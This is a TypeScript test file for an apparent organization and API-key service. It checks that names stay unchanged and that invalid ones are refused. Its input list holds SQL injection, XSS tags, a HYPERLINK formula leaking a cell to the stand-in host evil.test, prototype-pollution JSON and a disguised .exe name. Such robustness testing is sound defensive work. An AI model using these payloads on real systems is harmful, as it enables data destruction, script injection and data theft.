import { expect, it } from 'vitest'
import { plumbingOf } from '../../src/engine/plumbing.ts'
import { describeTollgate } from './describe-tollgate.ts'

/** Names that people use, or attack with. All of it is text, and must stay unchanged. */
const NAMES: readonly [what: string, name: string][] = [
  ['SQL', `'; drop table tollgate.organizations; --`],
  ['SQL with a dollar', `$$; select pg_sleep(9); $$ $1 $2`],
  ['a backslash', `\\'; \\x00 \\u0000 E'\\n'`],
  ['HTML', `<script>alert("1")</script><img src=x onerror=alert(1)>&amp;`],
  ['a formula', `=HYPERLINK("https://evil.test?"&A1,"click")`],
  ['a formula by a sign', `+1+1`],
  ['a formula by an at', `@SUM(A1:A9)`],
  ['a template', '\u0024{process.exit(1)} {{7*7}} #{7*7} %s %n'],
  ['JSON', '{"$ne":null,"__proto__":{"admin":true}}'],
  ['control characters', '\u0001\u0007\b\t\n\v\f\r\u001b[31m\u007f\u0085'],
  ['marks from right to left', '\u202Egnp.exe\u202C \u200Fشكرا\u200E \u2066x\u2069'],
  ['emoji and joiners', '👩‍👩‍👧‍👦 é e\u0301 \ufeff\u200b'],
  ['white space at its ends', '  \u00a0 name \u3000 '],
  ['10,000 characters', 'ü'.repeat(10_000)],
  ['10,000 quotes', `"'`.repeat(5_000)],
]

describeTollgate('a name', (subject) => {
  it.each(NAMES)('of %s is stored unchanged everywhere', async (_, name) => {
    const { tollgate, organization } = subject()
    const id = await organization('rag-chatbot/pro')
    await tollgate.organizations.update({ organizationId: id, name })
    expect((await tollgate.organizations.get({ organizationId: id })).name).toBe(name)
    const page = await tollgate.organizations.list({ limit: 200 })
    expect(page.items.find((one) => one.id === id)?.name).toBe(name)
    const key = await tollgate.apiKeys.create({ organizationId: id, name })
    expect(key.name).toBe(name)
    expect((await tollgate.apiKeys.rotate({ organizationId: id, keyId: key.id })).name).toBe(name)
    expect(
      (await tollgate.apiKeys.list({ organizationId: id })).items.map((one) => one.name),
    ).toEqual([name, name])
    await tollgate.members.add({ organizationId: id, userId: 'ada', role: 'owner', name })
    const userId = name.slice(0, 255)
    await tollgate.members.add({ organizationId: id, userId, role: 'viewer' })
    expect(await plumbingOf(tollgate).members.roleOf(id, userId)).toBe('viewer')
    expect(
      await tollgate.members.update({ organizationId: id, userId, role: 'admin', name }),
    ).toMatchObject({ userId, name, role: 'admin' })
    const { items } = await tollgate.members.list({ organizationId: id })
    expect(items.find((one) => one.userId === 'ada')?.name).toBe(name)
    expect(items.map((one) => one.userId)).toContain(userId)
    const log = await tollgate.audit.list({ organizationId: id, category: 'members' })
    expect(log.items.map((one) => one.subject)).toContain(`user:${userId}`)
    expect(await tollgate.members.remove({ organizationId: id, userId })).toMatchObject({
      userId,
      name,
    })
    expect((await tollgate.organizations.list({ limit: 200 })).items.length).toBe(page.items.length)
  })

  it.each([
    ['NUL', 'a\0b'],
    ['half a surrogate pair', 'a\ud800b'],
    ['10,001 characters', 'x'.repeat(10_001)],
    ['nothing', ''],
  ])('of %s is refused by its field, because it cannot be stored', async (_, name) => {
    const { tollgate, organization } = subject()
    const id = await organization('rag-chatbot/pro')
    const refused = { code: 'invalid_request', faults: [{ field: 'name' }] }
    const { apiKeys, members, organizations } = tollgate
    await expect(organizations.update({ organizationId: id, name })).rejects.toMatchObject(refused)
    await expect(apiKeys.create({ organizationId: id, name })).rejects.toMatchObject(refused)
    const member = { userId: 'ada', role: 'owner', name } as const
    await expect(members.add({ organizationId: id, ...member })).rejects.toMatchObject(refused)
  })
})
